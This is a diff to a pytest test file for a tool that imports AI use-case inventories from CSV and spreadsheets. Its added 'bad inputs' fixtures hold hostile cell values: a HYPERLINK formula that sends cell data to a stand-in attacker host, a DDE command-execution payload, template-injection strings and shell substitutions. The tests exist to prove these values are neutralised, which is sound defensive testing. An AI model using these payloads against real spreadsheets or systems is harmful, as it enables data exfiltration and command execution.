@@ -18,12 +18,14 @@ from aifactory.cli import app
 from aifactory.errors import InputError, StageError
 from aifactory.inputs.check import check_workspace
 from aifactory.inputs.contracts import load_contract
-from aifactory.inputs.importers.command import Target, import_files, suggest_mapping
+from aifactory.inputs.importers.command import Target, import_files
+from aifactory.inputs.importers.use_cases.command import suggest_mapping
 from aifactory.inputs.importers.use_cases.mapping import mapping_text, read_mapping_file, suggest
 from aifactory.inputs.importers.use_cases.merge import held_rows
 from aifactory.inputs.importers.use_cases.quantities import months, number, quantity_of
 from aifactory.inputs.importers.use_cases.read import read_use_cases
 from aifactory.inputs.importers.use_cases.report import ask_table, use_case_report
+from aifactory.inputs.importers.use_cases.sheet import write_sheet
 from aifactory.inputs.importers.use_cases.words import known_value, slug, vocabulary
 from aifactory.inputs.new import new_workspace
 from aifactory.inputs.spreadsheet import read_spreadsheet
@@ -56,6 +58,11 @@ def read(folder, text, mapping=None):
 
 def imported(path, into, *, replace=False, **target):
     return import_files("use-cases", [path], into, Target(today=TODAY, **target), replace=replace)[0]
+
+
+@pytest.fixture
+def empty(tmp_path):
+    return new_workspace(tmp_path / "empty")
 
 
 @pytest.fixture(params=[(2025, 3611), (2023, 710)], ids=["2025", "2023"])
@@ -332,29 +339,29 @@ def test_a_complete_row_becomes_a_use_case_and_others_wait(mini, tmp_path):
     assert len(inventory.use_cases) == 4
 
 
-def test_the_same_file_again_changes_nothing(mini, tmp_path):
+def test_the_same_file_again_changes_nothing(empty, tmp_path):
     path = write(tmp_path, COMPANY)
-    imported(path, mini)
-    before = {item.name: item.read_bytes() for item in mini.glob("use_case*")}
-    report = imported(path, mini)
+    imported(path, empty)
+    before = {item.name: item.read_bytes() for item in empty.glob("use_case*")}
+    report = imported(path, empty)
     assert report["into"]["added"] == 0
     assert report["into"]["changes"] == []
-    assert {item.name: item.read_bytes() for item in mini.glob("use_case*")} == before
+    assert {item.name: item.read_bytes() for item in empty.glob("use_case*")} == before
 
 
-def test_a_gap_is_filled_and_another_value_is_named_and_kept(mini, tmp_path):
-    imported(write(tmp_path, COMPLETE), mini)
+def test_a_gap_is_filled_and_another_value_is_named_and_kept(empty, tmp_path):
+    imported(write(tmp_path, COMPLETE), empty)
     later = COMPLETE.replace("stage\n", "stage,slo_p95_e2e_ms\n").replace("internal,pilot", "critical,pilot,900")
-    report = imported(write(tmp_path, later, "later.csv"), mini)
+    report = imported(write(tmp_path, later, "later.csv"), empty)
     assert report["into"]["changes"] == [{"use_case_id": "extra", "field": "slo_p95_e2e_ms", "old": "", "new": "900"}]
     assert any("extra criticality: 'internal', not 'critical'" in item["text"] for item in report["warnings"])
-    row = load_workspace(mini).table("use_cases").set_index("use_case_id").loc["extra"]
+    row = held_rows(empty).loc["extra"]
     assert (row["criticality"], row["slo_p95_e2e_ms"], row["source"]) == (
         "internal",
-        900,
+        "900",
         "cases.csv, row 2; later.csv, row 2",
     )
-    again = imported(tmp_path / "later.csv", mini, replace=True)
+    again = imported(tmp_path / "later.csv", empty, replace=True)
     assert [(item["old"], item["new"]) for item in again["into"]["changes"]] == [("internal", "critical")]
 
 
@@ -367,27 +374,28 @@ def test_demand_of_a_candidate_names_what_it_lacks(mini, tmp_path):
         load_workspace(mini)
 
 
-def test_one_use_case_in_both_tables_is_refused(mini, tmp_path):
-    (mini / "use_case_candidates.csv").write_text("use_case_id,source,as_of\nchat,x,2026-10-31\n")
-    with pytest.raises(InputError, match="value 'chat': is in use_cases too"):
-        imported(write(tmp_path, COMPLETE), mini)
+def test_one_use_case_in_both_tables_is_refused(empty, tmp_path):
+    imported(write(tmp_path, COMPLETE), empty)
+    (empty / "use_case_candidates.csv").write_text("use_case_id,source,as_of\nextra,x,2026-10-31\n")
+    with pytest.raises(InputError, match="value 'extra': is in use_cases too"):
+        imported(write(tmp_path, COMPLETE), empty)
 
 
-def test_formulas_are_harmless_in_the_files_of_a_workspace_and_come_back(mini, tmp_path):
-    imported(write(tmp_path, "Use case,Team\n=1+1,@x\n-2+3,'=y\n"), mini)
-    text = (mini / "use_case_candidates.csv").read_text(encoding="utf-8")
+def test_formulas_are_harmless_in_the_files_of_a_workspace_and_come_back(empty, tmp_path):
+    imported(write(tmp_path, "Use case,Team\n=1+1,@x\n-2+3,'=y\n"), empty)
+    text = (empty / "use_case_candidates.csv").read_text(encoding="utf-8")
     assert not [cell for row in csv.reader(text.splitlines()) for cell in row if cell.startswith(("=", "@", "-"))]
-    frame = read_table(mini / "use_case_candidates.csv", load_contract("use_case_candidates")).frame
+    frame = read_table(empty / "use_case_candidates.csv", load_contract("use_case_candidates")).frame
     assert frame["name"].tolist() == ["=1+1", "-2+3"]
     assert frame["team"].tolist() == ["@x", "'=y"]
 
 
-def test_the_command_line_says_what_was_assumed_recoded_and_asked(mini, tmp_path):
+def test_the_command_line_says_what_was_assumed_recoded_and_asked(empty, tmp_path):
     path = write(tmp_path, COMPANY)
-    done = CliRunner().invoke(app, ["import", "use-cases", str(path), "--into", str(mini)])
+    done = CliRunner().invoke(app, ["import", "use-cases", str(path), "--into", str(empty)])
     assert done.exit_code == 0, done.output
     for words in ("ASSUMED use_case_id is made", "RECODED stage: 'PoC' -> pilot (1 rows)", "ASK Retail / Ops / Head of ops",
-                  "2 added; 3 use cases and 2 candidates now"):  # fmt: skip
+                  "2 added; 0 use cases and 2 candidates now"):  # fmt: skip
         assert words in done.output
     report = json.loads(CliRunner().invoke(app, ["import", "use-cases", str(path), "--json"]).output)
     assert report["coverage"]["cost"] == 0.5
@@ -400,3 +408,105 @@ def test_the_owner_with_most_gaps_is_asked_first():
     assert asked[["business_unit", "use_cases", "volume", "latency target", "cost"]].to_numpy().tolist() == [
         ["b", 2, 2, 1, 0], ["(unknown)", 1, 1, 1, 0], ["a", 1, 1, 0, 0],
     ]  # fmt: skip
+
+
+# ------------------------------------------------------------------ the shared collection of bad inputs
+
+
+EXPECTED = {
+    "03_cp1252_quotes.csv": ["Citizen\u2019s helper \u2013 v2"],
+    "13_embedded_newlines.csv": ['Multi\r\nline, "quoted" case', "Plain"],
+    "51_formula_cells.csv": [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+    ],
+    "55_template_text.csv": ["{{ 7*7 }}", "{0.__class__.__mro__}", "%(x)s %n", "$(id) `id`"],
+}
+
+
+def test_every_bad_inventory_of_the_collection_is_expected(shared_dir):
+    with (shared_dir / "data" / "bad_inputs" / "cases.csv").open(encoding="utf-8", newline="") as stream:
+        assert {row["file"] for row in csv.DictReader(stream) if row["target"] == "inventory"} == set(EXPECTED)
+
+
+@pytest.mark.parametrize("name", EXPECTED)
+def test_a_bad_inventory_reads_as_text_goes_out_as_text_and_comes_back(shared_dir, tmp_path, name):
+    workspace = new_workspace(tmp_path / "ws")
+    report = imported(shared_dir / "data" / "bad_inputs" / name, workspace)
+    assert (report["rows_read"], report["rows_kept"]) == (len(EXPECTED[name]),) * 2
+    warned = [item["text"] for item in report["warnings"] if "cp1252" in item["text"]]
+    assert warned == (["not UTF-8: read as Windows text (cp1252)"] if name.startswith("03") else [])
+    contract = load_contract("use_case_candidates")
+    frame = read_table(workspace / "use_case_candidates.csv", contract).frame
+    assert frame["name"].tolist() == EXPECTED[name]
+    assert frame["stated_units_per_month"].notna().all()
+    with (workspace / "use_case_candidates.csv").open(encoding="utf-8", newline="") as stream:
+        cells = [cell for row in csv.reader(stream) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell[1:].isdigit()]
+    write_sheet(workspace, tmp_path / "f.xlsx", TODAY)
+    assert imported(tmp_path / "f.xlsx", workspace)["into"]["changes"] == []
+    assert held_rows(workspace)["name"].tolist() == EXPECTED[name]
+
+
+@pytest.mark.parametrize(
+    ("header", "field", "factor"),
+    [
+        ("Annual run cost (k$)", "stated_usd_per_month", 1000 / 12),
+        ("Monthly cost ('000 USD)", "stated_usd_per_month", 1000),
+        ("CostUSDPerMonth", "stated_usd_per_month", 1),
+        ("Annual cost MUSD", "stated_usd_per_month", 1e6 / 12),
+        ("Requests per month (millions)", "stated_units_per_month", 1e6),
+        ("Monthly calls (k)", "stated_units_per_month", 1e3),
+        ("TTFT target (s)", "slo_p95_ttft_ms", 1000),
+    ],
+)
+def test_thousands_periods_and_units_of_a_header_count(header, field, factor):
+    found = quantity_of(header)
+    assert (found.field, found.why_not) == (field, "")
+    assert found.factor == pytest.approx(factor)
+
+
+@pytest.mark.parametrize(
+    ("header", "why"),
+    [
+        ("Cost per month (A$)", "names no currency"),
+        ("Annual budget (USD)", "is a budget, not a cost"),
+        ("Token volume per month", "counts tokens, not service units"),
+        ("Peak requests per day", "is a peak, not a sum"),
+    ],
+)
+def test_what_only_looks_like_a_needed_quantity_is_not_used(header, why):
+    assert quantity_of(header).why_not == why
+
+
+#: Headers of public registers and companies, by their own documentation: ours -> theirs.
+FOREIGN = {
+    "US federal 2024": (
+        "Use Case Name,Agency,Bureau,Stage of Development,\"Is the AI use case rights-impacting, safety-impacting, both, or neither?\",Date Implemented,Date Retired\n"
+        "Chatbot,Labor,OSHA,Operation and Maintenance,Neither,5/13/2024,\nX,Labor,BLS,Retired,Both,5/1/2020,5/20/2024\n",
+        {"name": "Use Case Name", "business_unit": "Agency", "team": "Bureau", "stage": "Stage of Development",
+         "criticality": "Is the AI use case rights-impacting, safety-impacting, both, or neither?",
+         "launch_month": "Date Implemented", "retire_month": "Date Retired"},
+    ),
+    "Canada": (
+        "ai_register_id,name_ai_system_en,government_organization,ai_system_status_en\nAI-1,Bot,Health Canada,In production\nAI-2,Eye,Justice,Retired\n",
+        {"use_case_id": "ai_register_id", "name": "name_ai_system_en", "business_unit": "government_organization",
+         "stage": "ai_system_status_en"},
+    ),
+    "camel case": (
+        "UseCaseID,UseCaseName,BusinessLine,DeliveryTeam,AccountableExecutive,CurrentPhase,RequestsPerDay\n"
+        "UC-1,AML,Compliance,Fin crime,Chief compliance officer,Phase 3 - Production,100\nUC-2,Copilot,Wealth,Squad,Head of wealth,Phase 2 - Pilot,8\n",
+        {"use_case_id": "UseCaseID", "name": "UseCaseName", "business_unit": "BusinessLine", "team": "DeliveryTeam",
+         "owner_role": "AccountableExecutive", "stage": "CurrentPhase", "stated_units_per_month": "RequestsPerDay"},
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("source", FOREIGN)
+def test_headers_of_other_organisations_are_understood(tmp_path, source):
+    text, columns = FOREIGN[source]
+    found = read(tmp_path, text)
+    assert {name: found.mapping.columns.get(name) for name in columns} == columns
+    assert found.frame["stage"].notna().all()
